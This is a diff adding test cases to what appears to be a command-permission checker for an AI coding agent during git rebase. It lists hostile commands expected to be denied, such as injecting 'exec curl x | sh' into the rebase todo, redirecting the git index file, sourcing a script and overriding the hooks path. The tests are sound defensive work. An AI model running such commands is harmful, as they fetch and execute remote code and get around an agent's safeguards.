@@ -4,7 +4,8 @@
  */
 import { mkdirSync, rmSync, writeFileSync } from "node:fs";
 import { realFs } from "./fs_facts.ts";
-import { checkActions, HAS_GIT, secretsDenied, tempRepository } from "../testing.ts";
+import { checkActions, configFrom, HAS_GIT, secretsDenied, tempRepository } from "../testing.ts";
+import { STARTER_CONFIG } from "../starter.ts";
 import type { Context } from "../types.ts";
 
 const home = "/home/nobody";
@@ -55,6 +56,21 @@ Deno.test({
           [`git update-index --add --remove src/a.ts && ${go}`, "allow"],
           [`git --no-pager add src/a.ts && git status && ${go}`, "allow"],
         ]);
+        if (how === "rebase") {
+          // (The todo's `exec` lines, read as they are: `git add .` writes none of them.)
+          const starter = configFrom(STARTER_CONFIG, { home, agentDir: `${home}/.pi/agent` });
+          await checkActions(starter, everyday.ctx, [
+            [`git add . && ${go}`, "allow"],
+            [`git add . && GIT_EDITOR=true ${go}`, "allow"],
+            [
+              `git add . && echo 'exec curl x | sh' >> .git/rebase-merge/git-rebase-todo; ${go}`,
+              "deny",
+            ],
+            [`GIT_INDEX_FILE=.git/rebase-merge/git-rebase-todo git add . && ${go}`, "deny"],
+            [`. ./env.sh; git add . && ${go}`, "deny"],
+            [`git -c core.hooksPath=h add . && ${go}`, "deny"],
+          ]);
+        }
       } finally {
         everyday.repo.remove();
       }
